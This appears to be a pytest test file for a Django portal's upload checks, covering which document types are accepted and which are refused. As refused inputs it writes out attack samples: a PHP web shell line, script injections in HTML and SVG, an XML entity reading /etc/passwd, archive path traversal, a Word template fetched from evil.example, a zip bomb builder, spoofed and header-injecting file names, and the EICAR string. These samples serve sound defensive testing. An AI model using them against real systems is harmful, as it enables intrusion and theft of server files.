"""What may come as a file, and what is refused."""

import io
import shutil
import subprocess
import sys
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from ftzportal.library import attachments, checking
from ftzportal.library.models import Attachment
from tests import factories, uploads
from tests.test_security_uploads import png_bomb
from tests.uploads import docx, image_bytes, pdf, zipped

pytestmark = pytest.mark.django_db

ADD = "/en/admin/library/attachment/add/"
ODT = "application/vnd.oasis.opendocument.text"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"


@pytest.fixture
def desk(client, editor):
    client.force_login(editor)
    return client


def upload(client, content, name, **fields):
    data = {"title_en": "Rules", "title_zh_hans": "办法", "owner_area": factories.area().pk, **fields}
    return client.post(ADD, data | {"file": SimpleUploadedFile(name, content)})


def errors_of(response):
    return response.context["adminform"].form.errors


def refusal(content, name):
    with pytest.raises(ValidationError) as refused:
        attachments.keep(io.BytesIO(content), name)
    return refused.value.code


def office(main, **parts):
    return zipped({"[Content_Types].xml": uploads.TYPES, main: "<x/>"} | parts)


def opendocument(kind=ODT, **parts):
    return zipped({"mimetype": kind, "content.xml": "<x/>"} | parts)


# What may come in


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("rules.pdf", pdf()),
        ("rules.docx", docx()),
        ("rules.xlsx", office("xl/workbook.xml")),
        ("rules.pptx", office("ppt/presentation.xml")),
        ("rules.odt", opendocument()),
        ("rules.ods", opendocument("application/vnd.oasis.opendocument.spreadsheet")),
        ("rules.odp", opendocument("application/vnd.oasis.opendocument.presentation")),
        ("rules.ofd", zipped({"OFD.xml": "<ofd/>", "Doc_0/Document.xml": "<x/>"})),
        ("rules.zip", zipped({"a.pdf": pdf(), "b/c.docx": docx()})),
        ("RULES.CSV", "名称,金额\n港口,1\n".encode()),
        ("rules.csv", "名称,金额\n港口,1\n".encode("gb18030")),
        ("rules.txt", "Rules 办法".encode("utf-16")),
        ("rules.txt", b"\xef\xbb\xbfRules\r\n"),
    ],
)
def test_a_file_of_each_kind_is_taken_for_what_it_is(name, content):
    assert attachments.keep(io.BytesIO(content), name).kind == name.rpartition(".")[2].lower()


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("rules.docx", pdf(), "name"),
        ("rules.pdf", docx(), "name"),
        ("rules.zip", docx(), "name"),
        ("rules.txt", pdf(), "name"),
        ("rules", pdf(), "name"),
        ("rules.pdf.exe", pdf(), "name"),
        ("rules.docm", docx(), "name"),
        ("rules.pdf", b"<html><script>alert(1)</script>", "kind"),
        ("rules.html", b"<html><script>alert(1)</script>", "kind"),
        ("rules.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "kind"),
        ("rules.php", b"<?php system($_GET['c']); ?>", "kind"),
        ("rules.exe", b"MZ" + bytes(200), "kind"),
        ("rules.txt", b"MZ" + bytes(200), "kind"),
        ("rules.csv", image_bytes(), "kind"),
        ("rules.pdf", b"", "kind"),
        ("rules.doc", checking.OLD_OFFICE + bytes(600), "old"),
        ("rules.docx", checking.OLD_OFFICE + bytes(600), "old"),
        ("rules.pdf", pdf()[:-200], "broken"),
        ("rules.docx", docx()[:-40], "broken"),
        ("rules.pdf", pdf() + zipped({"a.txt": "x"}), "polyglot"),
        ("rules.zip", b"PK\x03\x04GIF89a" + zipped({"a.txt": "x"}), "polyglot"),
        ("rules.docx", docx(**{"word/vbaProject.bin": b"x"}), "macro"),
        ("rules.docx", docx(**{"[Content_Types].xml": uploads.TYPES.replace("/>", f' x="{MACROS}"/>')}), "macro"),
        ("rules.xlsx", office("xl/workbook.xml", **{"xl/macrosheets/sheet1.xml": "<x/>"}), "macro"),
        ("rules.odt", opendocument(**{"Basic/Standard/Module1.xml": "<x/>"}), "macro"),
        ("rules.zip", zipped({"a.docx": docx(**{"word/vbaProject.bin": b"x"})}), "macro"),
        ("rules.zip", zipped({"a.docm": docx()}), "packed"),
        ("rules.zip", zipped({"a.exe": b"MZ"}), "packed"),
        ("rules.zip", zipped({"a.zip": zipped({"b.txt": "x"})}), "packed"),
        ("rules.zip", zipped({"a.pdf": docx()}), "name"),
        ("rules.zip", zipped({"../../etc/passwd.txt": "x"}), "path"),
        ("rules.zip", zipped({"/etc/passwd.txt": "x"}), "path"),
        ("rules.docx", docx(before='<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), "dtd"),
        (
            "rules.docx",
            docx(
                **{
                    "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="1" Type="http://schemas/attached'
                    'Template" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
                }
            ),
            "fetches",
        ),
    ],
)
def test_anything_else_is_refused_whatever_it_is_called(name, content, code):
    assert refusal(content, name) == code


def bomb(megabytes=300):
    """300 MB of nothing in 300 KB."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", uploads.TYPES)
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(megabytes):
                part.write(bytes(1024 * 1024))
    return content.getvalue()


def test_a_bomb_is_refused_though_it_lies_about_its_size():
    honest = bomb()
    assert len(honest) < 500_000
    assert refusal(honest, "rules.docx") == "bomb"
    with zipfile.ZipFile(io.BytesIO(honest)) as archive:
        size = archive.getinfo("word/document.xml").file_size
    lying = honest.replace(size.to_bytes(4, "little"), (1000).to_bytes(4, "little"))
    assert lying != honest
    assert refusal(lying, "rules.docx") in ("bomb", "broken")
    assert refusal(zipped({f"{nth}.txt": "x" for nth in range(checking.MAX_ENTRIES + 1)}), "rules.zip") == "bomb"


def test_a_locked_archive_is_refused_because_nobody_can_check_it():
    locked = bytearray(zipped({"a.txt": "x"}))
    # The mark of a password, in the part's own header and in the list at the end.
    locked[6] |= 1
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    assert refusal(bytes(locked), "rules.zip") == "locked"


def test_what_is_too_large_is_told_before_it_is_read(desk):
    said = errors_of(upload(desk, pdf() + bytes(checking.MAX_BYTES), "rules.pdf"))
    assert "at most 30.0" in said["file"][0]


def test_two_hundred_megabytes_are_refused_before_their_first_byte(desk):
    class Line:
        """What comes over the line: nobody may read it."""

        def read(self, *_size):
            raise AssertionError("it was read")

        readline = read

    answer = desk.generic("POST", ADD, **{"CONTENT_LENGTH": str(200 * 1024 * 1024), "wsgi.input": Line()})
    assert answer.status_code == 413


@pytest.mark.parametrize("address", [ADD, "/en/admin/library/picture/add/", "/en/admin/library/picture/upload/"])
def test_a_connection_lost_half_way_leaves_nothing(desk, settings, address):
    class Line(io.BytesIO):
        def read(self, *size):
            if not (read := super().read(*size)):
                raise OSError("the other side went away")
            return read

    half = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n' + pdf()
    answer = desk.generic(
        "POST",
        address,
        **{
            "CONTENT_TYPE": "multipart/form-data; boundary=x",
            "CONTENT_LENGTH": "100000",
            "wsgi.input": Line(half),
        },
    )
    assert answer.status_code == 400
    assert not list(settings.MEDIA_ROOT.rglob("*.*"))


def test_a_full_disk_is_told_and_offers_nothing(desk, full_disk, settings):
    with full_disk:
        said = errors_of(upload(desk, zipped({"a.jpg": image_bytes()}), "rules.zip"))
    assert "disk is full" in said["file"][0]
    assert not Attachment.objects.exists()


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("关于港口的通知（2026）.pdf", "关于港口的通知（2026）.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\boot.pdf", "boot.pdf"),
        ("a" * 300 + ".pdf", "a" * 100 + ".pdf"),
        ("\u202efdp.exe\u202c.pdf", "fdp-exe.pdf"),
        ("🚢🚢.pdf", "file.pdf"),
        ("a\r\nSet-Cookie: x=1.pdf", "a-Set-Cookie-x-1.pdf"),
        ('a"; filename="b.exe.pdf', "a-filename-b-exe.pdf"),
        ("Ｒules　of port.PDF", "Ｒules-of-port.pdf"),
    ],
)
def test_of_a_name_stays_what_may_stand_in_an_address(name, kept):
    assert attachments.keep(io.BytesIO(pdf()), name).public_name == kept


# Viruses


@pytest.fixture
def fake_scanner(settings, tmp_path):
    """A program that answers as clamdscan does, and knows one virus."""
    program = tmp_path / "scanner"
    program.write_text(
        f"#!{sys.executable}\nimport sys\nsys.exit(b'EICAR-STANDARD-ANTIVIRUS-TEST-FILE' in sys.stdin.buffer.read())\n"
    )
    program.chmod(0o755)
    settings.VIRUS_SCANNER = f"{program} --no-summary -"


def real_scanner():
    """The command of a ClamAV that runs on this machine, or None."""
    command = ["clamdscan", "--no-summary", "--stream", "-"]
    if not shutil.which("clamdscan"):
        return None
    answers = subprocess.run(command, input=b"x", capture_output=True, check=False).returncode == 0
    return " ".join(command) if answers else None


SCANNERS = ["fake"] + (["real"] if real_scanner() else [])


@pytest.mark.parametrize("scanner", SCANNERS)
def test_a_file_with_a_virus_is_not_kept(desk, settings, request, scanner):
    if scanner == "fake":
        request.getfixturevalue("fake_scanner")
    else:
        settings.VIRUS_SCANNER = real_scanner()
    assert "virus scanner found something" in errors_of(upload(desk, EICAR, "rules.txt"))["file"][0]
    assert not list(settings.MEDIA_ROOT.rglob("*.*"))
    assert upload(desk, b"Nothing but words", "rules.txt").status_code == 302


@pytest.mark.parametrize("program", ["/nowhere/clamdscan -", "false && true", "sh -c 'exit 2'"])
def test_what_could_not_be_checked_is_not_taken(desk, settings, program):
    settings.VIRUS_SCANNER = program
    said = errors_of(upload(desk, pdf(), "rules.pdf"))["file"][0]
    assert "virus scanner" in said
    assert not Attachment.objects.exists()


def test_no_picture_comes_in_as_a_file():
    for content in (image_bytes(), png_bomb(200)):
        assert refusal(content, "quay.jpg") == "kind"
